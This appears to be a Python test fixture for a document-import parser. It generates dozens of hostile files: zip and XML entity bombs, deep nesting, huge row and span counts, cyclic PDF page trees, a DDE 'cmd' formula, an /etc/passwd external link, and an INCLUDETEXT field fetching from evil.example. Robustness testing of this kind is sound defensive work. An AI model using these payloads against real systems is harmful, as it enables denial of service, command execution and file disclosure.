"""Files that look small or honest and want all time, all memory or the stack: what each reader must see coming."""

import io
import struct
import zipfile
import zlib
from collections.abc import Callable, Iterable
from itertools import pairwise

from reading import SEEDS

MIB = 1024 * 1024
HEAD = ("事项名称", "材料名称", "份数")
TABLE_NAMES = 'xmlns:office="{0}:office:1.0" xmlns:table="{0}:table:1.0" xmlns:text="{0}:text:1.0"'.format(
    "urn:oasis:names:tc:opendocument:xmlns"
)
W = 'xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main"'
ENTITIES = "<!DOCTYPE x [<!ENTITY a 'ha'>" + "".join(f"<!ENTITY {new} '{f'&{old};' * 10}'>" for old, new in pairwise("abcdefghi")) + "]>"


def changed(seed: str, part: str, content: bytes) -> bytes:
    """A seed with one part replaced."""
    data = io.BytesIO()
    with zipfile.ZipFile(SEEDS / seed) as old, zipfile.ZipFile(data, "w", zipfile.ZIP_DEFLATED) as new:
        for name in old.namelist():
            new.writestr(name, content if name == part else old.read(name))
    return data.getvalue()


def sheet(rows: Iterable[str] = (), rest: str = "", first: str = "") -> bytes:
    """A workbook whose first sheet has these rows below a head."""
    head = "".join(f'<c t="inlineStr"><is><t>{word}</t></is></c>' for word in HEAD)
    names = 'xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"'
    page = f"<worksheet {names}>{first}<sheetData><row>{head}</row>{''.join(rows)}</sheetData>{rest}</worksheet>"
    return changed("workbook.xlsx", "xl/worksheets/sheet1.xml", page.encode())


def letter(body: str) -> bytes:
    return changed("letter.docx", "word/document.xml", f"<w:document {W}><w:body>{body}</w:body></w:document>".encode())


def spread(rows: str) -> bytes:
    """An OpenDocument sheet."""
    body = f"<office:body><office:spreadsheet><table:table table:name='表'>{rows}</table:table></office:spreadsheet></office:body>"
    return changed("workbook.ods", "content.xml", f"<office:document-content {TABLE_NAMES}>{body}</office:document-content>".encode())


def page(table: str) -> bytes:
    return f"<html><meta charset=utf-8><table><tr>{''.join(f'<td>{word}' for word in HEAD)}</tr>{table}</table></html>".encode()


def pdf(*objects: bytes) -> bytes:
    """A PDF file of these objects, the first of them the catalogue."""
    data, places = b"%PDF-1.7\n", []
    for number, content in enumerate(objects, 1):
        places.append(len(data))
        data += b"%d 0 obj\n%s\nendobj\n" % (number, content)
    table = b"xref\n0 %d\n0000000000 65535 f \n" % (len(objects) + 1) + b"".join(b"%010d 00000 n \n" % place for place in places)
    return data + table + b"trailer<</Size %d/Root 1 0 R>>\nstartxref\n%d\n%%%%EOF" % (len(objects) + 1, len(data))


CATALOGUE = b"<</Type/Catalog/Pages 2 0 R>>"


def drawn(content: bytes) -> bytes:
    """A PDF of one page on which this is drawn."""
    packed = zlib.compress(content, 9)
    stream = b"<</Length %d/Filter/FlateDecode>>stream\n%s\nendstream" % (len(packed), packed)
    font = b"<</Type/Font/Subtype/Type1/BaseFont/Helvetica>>"
    leaf = b"<</Type/Page/Parent 2 0 R/MediaBox[0 0 595 842]/Contents 4 0 R/Resources<</Font<</F 5 0 R>>>>>>"
    return pdf(CATALOGUE, b"<</Type/Pages/Kids[3 0 R]/Count 1>>", leaf, stream, font)


FAR = '<row r="1048576"><c r="XFD1048576"><v>1</v></c></row>'
WHOLE = '<mergeCell ref="A1:XFD1048576"/>'

STYLES = f'<w:styles {W}><w:style w:type="paragraph" w:styleId="Heading1"><w:basedOn w:val="Heading1"/></w:style></w:styles>'
ROWS_WITHOUT_END = (
    (0x809, struct.pack("<HHHH", 0x600, 0x10, 0, 0)),
    (0x200, struct.pack("<IIHHH", 0, 0xFFFFFFFF, 0, 255, 0)),
    (0x203, struct.pack("<HHHd", 65535, 65535, 0, 1.0)),
    (0x0A, b""),
)

BOMBS: dict[str, Callable[[], bytes]] = {
    "一格在最远处.xlsx": lambda: sheet([FAR], first='<dimension ref="A1:XFD1048576"/>'),
    "对角线.xlsx": lambda: sheet(
        f'<row r="{n * 100}"><c r="{chr(65 + n % 26)}{chr(65 + n // 26)}{n * 100}"><v>1</v></c></row>' for n in range(1, 600)
    ),
    "行号倒序.xlsx": lambda: sheet(f'<row r="{n}"><c r="A{n}"><v>{n}</v></c></row>' for n in range(5000, 1, -1)),
    "合并重叠.xlsx": lambda: sheet(rest=f'<mergeCells count="1">{WHOLE * 20_000}</mergeCells>'),
    "合并很多.xlsx": lambda: sheet(
        rest="<mergeCells>" + "".join(f'<mergeCell ref="A{n}:XFD{n + 1000}"/>' for n in range(1, 20_000)) + "</mergeCells>"
    ),
    "压缩炸弹.xlsx": lambda: sheet([" " * (80 * MIB)]),
    "实体炸弹.xlsx": lambda: changed("workbook.xlsx", "xl/sharedStrings.xml", (ENTITIES + "<sst><si><t>&i;</t></si></sst>").encode()),
    "嵌套.xlsx": lambda: changed("workbook.xlsx", "xl/sharedStrings.xml", b"<sst>" + b"<si>" * 50_000 + b"</si>" * 50_000 + b"</sst>"),
    "公式和外部链接.xlsx": lambda: sheet(
        ["<row><c t='str'><f>cmd|'/C calc'!A0</f><v>某审批</v></c><c t='str'><f>'file:///etc/[passwd]s'!A1</f><v>身份证</v></c></row>"]
    ),
    "表中表.docx": lambda: letter("<w:tbl><w:tr><w:tc>" * 3000 + "<w:p/>" + "</w:tc></w:tr></w:tbl>" * 3000),
    "控件套控件.docx": lambda: letter("<w:sdt><w:sdtContent>" * 20_000 + "<w:p/>" + "</w:sdtContent></w:sdt>" * 20_000),
    "修订套修订.docx": lambda: letter("<w:p>" + "<w:ins>" * 20_000 + "<w:r><w:t>材料</w:t></w:r>" + "</w:ins>" * 20_000 + "</w:p>"),
    "跨很多列.docx": lambda: letter(
        '<w:tbl><w:tr><w:tc><w:tcPr><w:gridSpan w:val="2000000000"/></w:tcPr><w:p/></w:tc></w:tr></w:tbl>' * 50
    ),
    "跨很多列的很多行.docx": lambda: letter(
        "<w:tbl>" + '<w:tr><w:tc><w:tcPr><w:gridSpan w:val="60000"/></w:tcPr><w:p/></w:tc></w:tr>' * 3000 + "</w:tbl>"
    ),
    "编号极大.docx": lambda: letter(
        '<w:p><w:pPr><w:numPr><w:ilvl w:val="99999999"/><w:numId w:val="99999999999999999999"/></w:numPr></w:pPr>'
        "<w:r><w:t>材料</w:t></w:r></w:p>"
    ),
    "实体炸弹.docx": lambda: changed("letter.docx", "word/document.xml", (ENTITIES + "<x>&i;</x>").encode()),
    "样式循环.docx": lambda: changed("letter.docx", "word/styles.xml", STYLES.encode()),
    "域和外部模板.docx": lambda: letter(
        '<w:p><w:r><w:fldChar w:fldCharType="begin"/></w:r><w:r><w:instrText>INCLUDETEXT "http://evil.example/x"</w:instrText></w:r>'
        '<w:r><w:fldChar w:fldCharType="end"/></w:r></w:p>'
    ),
    "重复无数行.ods": lambda: spread(
        '<table:table-row table:number-rows-repeated="2147483647"><table:table-cell table:number-columns-repeated="2147483647">'
        "<text:p>x</text:p></table:table-cell></table:table-row>"
    ),
    "重复的合并.ods": lambda: spread(
        '<table:table-row table:number-rows-repeated="99999"><table:table-cell table:number-columns-spanned="16384" '
        'table:number-rows-spanned="1048576"><text:p>x</text:p></table:table-cell></table:table-row>'
    ),
    "空格无数.ods": lambda: spread(
        '<table:table-row><table:table-cell><text:p><text:s text:c="2147483647"/>x</text:p></table:table-cell></table:table-row>'
    ),
    "实体炸弹.ods": lambda: changed("workbook.ods", "content.xml", (ENTITIES + "<x>&i;</x>").encode()),
    "跨度.xls": lambda: page("<tr><td rowspan=2147483647 colspan=2147483647>x" * 200),
    "跨度极长.xls": lambda: page(f"<tr><td rowspan={'9' * 5000}>身份证"),
    "表中表.xls": lambda: page("<tr><td><table>" * 20_000),
    "标签无数.xls": lambda: page("<tr><td>" + "<div>" * 100_000 + "身份证"),
    "怪编码.xls": lambda: page("<tr><td>x").replace(b"charset=utf-8", b"charset=punycode") + "汉".encode() * 30_000,
    "邮件套邮件.mht": lambda: b"MIME-Version: 1.0\nContent-Type: message/rfc822\n\n" * 3000,
    "一行无数列.csv": lambda: b"\xe5\x90\x8d,\xe6\x95\xb0\n" + b"," * 5_000_000,
    "引号.csv": lambda: b"a,b\n" + b'"' * 3_000_001 + b"\nc,d",
    "深.json": lambda: b"[" * 2_000_000,
    "深对象.json": lambda: b'{"a":' * 500_000,
    "大数.json": lambda: b'[{"\xe4\xba\x8b\xe9\xa1\xb9\xe5\x90\x8d\xe7\xa7\xb0":' + b"9" * 2_000_000 + b"}]",
    "反斜杠.json": lambda: b'{"' + b"\\" * 3_000_000,
    "页数无数.pdf": lambda: pdf(CATALOGUE, b"<</Type/Pages/Kids[3 0 R]/Count 999999999>>", b"<</Type/Page/Parent 2 0 R>>"),
    "页树循环.pdf": lambda: pdf(CATALOGUE, b"<</Type/Pages/Kids[2 0 R 2 0 R]/Count 2>>"),
    "压缩炸弹.pdf": lambda: drawn(b" " * (120 * MIB)),
    "线条无数.pdf": lambda: drawn(b"".join(b"%d %d m %d %d l S\n" % (n % 500, n % 800, n % 500 + 50, n % 800) for n in range(100_000))),
    "文字无数.pdf": lambda: drawn(b"BT /F 8 Tf " + b"(aaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaa) Tj 0 1 Td " * 20_000 + b"ET"),
    "表单套表单.pdf": lambda: pdf(
        CATALOGUE,
        b"<</Type/Pages/Kids[3 0 R]/Count 1>>",
        b"<</Type/Page/Parent 2 0 R/MediaBox[0 0 9 9]/Contents 4 0 R/Resources<</XObject<</A 5 0 R>>>>>>",
        b"<</Length 5>>stream\n/A Do\nendstream",
        *(
            b"<</Type/XObject/Subtype/Form/BBox[0 0 9 9]/Resources<</XObject<</A %d 0 R>>>>/Length 60>>stream\n%s\nendstream"
            % (number, b"/A Do " * 10)
            for number in range(6, 16)
        ),
        b"<</Type/XObject/Subtype/Form/BBox[0 0 9 9]/Length 1>>stream\nn\nendstream",
    ),
    "深.pdf": lambda: pdf(b"[" * 200_000),
    "行号极大.xls": lambda: b"".join(struct.pack("<HH", kind, len(data)) + data for kind, data in ROWS_WITHOUT_END),
}
"""What each is called and holds."""
